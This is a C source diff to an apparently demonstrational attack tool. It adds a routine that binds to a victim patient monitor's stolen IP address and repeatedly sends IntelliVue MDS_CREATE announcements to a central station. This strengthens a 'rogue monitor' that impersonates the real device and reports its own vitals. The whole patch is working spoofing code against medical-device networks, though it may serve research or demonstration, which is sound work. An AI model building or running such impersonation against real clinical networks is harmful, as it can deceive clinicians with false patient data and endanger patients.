@@ -15,6 +15,7 @@
 #include "base/clock.h"
 #include "demo/actor.h"
 #include "demo/frame.h"
+#include "demo/intellivue.h"
 #include "demo/monitor.h"
 #include "demo/service.h"
 
@@ -188,6 +189,26 @@ static void give_back(const struct attacker *a)
 	}
 }
 
+/* Speaks up in the stolen address, as a monitor does that has just been switched on. */
+static int introduce(const struct attacker *a)
+{
+	struct sockaddr_in self = {.sin_family = AF_INET}, to = self;
+	struct ivue_message m = {.kind = IVUE_MDS_CREATE, .invoke = 1};
+	uint8_t buf[256];
+	struct writer w = writer_new(buf, sizeof(buf));
+	int sock = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+
+	self.sin_addr.s_addr = frame_ip_of(a->victim.ip);
+	to.sin_addr.s_addr = frame_ip_of(a->other.ip);
+	to.sin_port = htons(IVUE_PORT);
+	ivue_write(&w, &m);
+	if (sock < 0)
+		return -errno;
+	if (bind(sock, (struct sockaddr *)&self, sizeof(self)) == 0)
+		(void)!sendto(sock, buf, w.len, MSG_DONTWAIT, (struct sockaddr *)&to, sizeof(to));
+	return close(sock);
+}
+
 /* The rogue keeps telling the central where "the monitor" is, and its own vitals. */
 int attacker_rogue_monitor(void *arg)
 {
@@ -207,6 +228,7 @@ int attacker_rogue_monitor(void *arg)
 		  a->other.mac, frame_ip_of(a->other.ip));
 	for (end = after(a->ms); left(end);) {
 		frame_send(sock, frame, sizeof(frame));
+		introduce(a);
 		actor_sleep(200);
 	}
 	actor_stop(pid);
